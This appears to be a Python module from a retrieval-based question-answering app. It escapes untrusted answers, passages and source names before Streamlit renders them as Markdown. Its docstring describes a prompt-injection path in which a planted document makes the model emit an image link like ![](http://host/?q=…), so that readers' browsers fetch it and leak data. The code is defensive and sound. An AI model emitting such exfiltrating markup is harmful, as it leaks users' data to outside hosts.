"""Text nobody here wrote, as the app shows it: answers, passages, questions, references, document names.

A planted document can make the model write Markdown, and Markdown in a browser acts: ``![](http://host/?q=…)``
makes every reader's browser fetch that address (a known exfiltration path), ``$…$`` becomes LaTeX, a link can
hide where it goes. So such text is shown as written: every character Markdown, Streamlit's directives or its
math give a meaning to is escaped, each line stays a line, and a link becomes its text followed by its target.
The one markup added back is ours: an answer's ``[n]`` links to source n on the same page.
"""

from __future__ import annotations

import re
from collections.abc import Collection

# Every ASCII punctuation character Markdown, GFM, Streamlit's :directives[] and math may read as syntax.
_SPECIAL = re.compile(r"([\\`*_{}\[\]<>()#+\-.!|~$:=^&\"'/])")
# [text](target "title") and ![alt](source): shown as "text (target)".
_LINK = re.compile(r"!?\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[^)]*)?\)")
_ESCAPED_CITATION = re.compile(r"\\\[(\d{1,2})\\\]")


def as_text(text: str) -> str:
    """Markdown that displays ``text`` exactly, lines kept; links written out as their text and target."""
    spelled_out = _LINK.sub(lambda m: f"{m[1]} ({m[2]})" if m[1].strip() else m[2], text)
    return _SPECIAL.sub(r"\\\1", spelled_out).replace("\n", "  \n")


def source_anchor(key: str, n: int) -> str:
    """The page-wide id of source ``n`` of the answer ``key`` (a page can show several answers)."""
    return f"source-{re.sub(r'[^A-Za-z0-9-]', '-', key)}-{n}"


def answer_markdown(answer: str, key: str, sources: Collection[int]) -> str:
    """An answer shown as written, each ``[n]`` that names a shown source a link to it."""

    def link(marker: re.Match[str]) -> str:
        n = int(marker[1])
        return f"[\\[{n}\\]](#{source_anchor(key, n)})" if n in sources else marker[0]

    return _ESCAPED_CITATION.sub(link, as_text(answer))
